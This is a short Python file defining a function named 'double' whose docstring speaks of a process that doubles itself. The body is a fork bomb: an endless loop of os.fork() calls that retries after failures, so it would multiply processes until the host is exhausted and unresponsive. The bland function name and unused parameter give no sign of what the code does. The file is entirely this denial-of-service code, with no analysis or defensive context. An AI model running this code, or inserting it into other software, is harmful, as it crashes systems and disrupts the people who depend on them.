"""Doubles itself, and each of the two does so as well."""

import os
import time


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
